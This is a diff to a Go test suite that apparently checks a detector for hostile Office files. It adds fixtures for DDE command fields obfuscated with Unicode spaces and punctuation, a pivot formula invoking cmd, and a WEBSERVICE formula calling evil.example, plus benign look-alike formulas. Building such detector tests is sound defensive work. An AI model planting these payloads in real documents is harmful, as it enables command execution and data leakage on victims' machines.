@@ -108,6 +108,11 @@ func hostileOffice() []recipe {
 		part(officeExternal, "hyperlink-relative", relationships("hyperlink", "x.docx", "External")),
 		part(officeExternal, "html-part", relationships("aFChunk", "part.html", "")),
 		part(officeExternal, "external-book", relationships("externalLinkPath", "file:///x.xlsx", "External")),
+		part(officeExternal, "formula-of-a-format", `<worksheet><conditionalFormatting><cfRule><colorScale><cfvo `+
+			`type="formula" val="WEBSERVICE(&quot;http://evil.example/&quot;)"/></colorScale></cfRule></conditionalFormatting>`+
+			`</worksheet>`),
+		part(officeExternal, "formula-of-a-pivot", `<pivotCacheDefinition><cacheFields><cacheField name="x" `+
+			`formula="cmd|'/c calc'!A0"/></cacheFields></pivotCacheDefinition>`),
 		part(officeExternal, "two-types",
 			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:x="urn:x"><Relationship `+
 				`Id="r" x:Type="`+relationshipTypes+`hyperlink" Type="`+relationshipTypes+`image" `+
@@ -126,6 +131,8 @@ func hostileOffice() []recipe {
 		part(officeExternal, "field-ddeauto", word(fieldOf(`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`))),
 		part(officeExternal, "field-lower-case", word(fieldOf(` ddeauto cmd`))),
 		part(officeExternal, "field-split", word(fieldOf(` D`, `DE`, `AUTO cmd`))),
+		part(officeExternal, "field-after-spaces", word(fieldOf("\u3000\u200b\ufeff DDE cmd"))),
+		part(officeExternal, "field-after-marks", word(fieldOf(` (. * DDEAUTO cmd`))),
 		part(officeExternal, "field-cdata", word(fieldOf(` D<![CDATA[DE]]>AUTO cmd`))),
 		part(officeExternal, "field-comment", word(fieldOf(` DD<!-- -->E cmd`))),
 		part(officeExternal, "field-simple",
@@ -268,7 +275,7 @@ func benignOffice() []recipe {
 		part(officeExternal, "parents", relationships("drawing", "../../xl/drawings/drawing1.xml", "Internal")),
 		part(officeExternal, "from-root", relationships("styles", "/word/styles.xml", "")),
 		part(officeExternal, "fields",
-			word(fieldOf(` PAGE `)+fieldOf(` HYPERLINK "https://example.org/" `)+fieldOf(` REF DDE `)+`<w:fldSimple w:instr=" `+
+			word(fieldOf(` PAGE `)+fieldOf(` HYPERLINK "https://example.org/" `)+fieldOf(` REF DDE `)+fieldOf(` = 1 + DDE `)+`<w:fldSimple w:instr=" `+
 				`DATE "/><w:r><w:t>DDEAUTO cmd</w:t></w:r>`)),
 		part(officeExternal, "formulas", sheet(`SUM(A1:A2)&amp;"WEBSERVICE(1) a|b"&amp;'it''s|x'!A1&amp;IMAGES(1)`)),
 		part(officeExternal, "books-by-number", sheet(`'[1]Sheet 1'!A1+[2]S!B2+SUM('Jan:Dec'!A1)+T[[#All],`+
@@ -277,6 +284,8 @@ func benignOffice() []recipe {
 			`w:val="urn:schemas-example"/><sl:schemaLibrary `+
 			`xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema `+
 			`sl:uri="http://example.org/schema"/></sl:schemaLibrary>`)),
+		part(officeExternal, "formulas-in-attributes", `<worksheet><cfvo type="formula" val="SUM($A$1:$A$9)*0.5"/><cfvo `+
+			`type="min"/><cacheField name="a|b" formula="price *2" numFmtId="0"/></worksheet>`),
 		part(officeExternal, "local-connection", connection(`refreshedVersion="6"`)),
 		part(officeBounds, "last-cell", cells(`<row r="1048576" spans="1:16384"><c r="XFD1048576"><f t="shared" `+
 			`ref="A1:XFD1048576" si="0">A1</f></c><c/></row>`)),
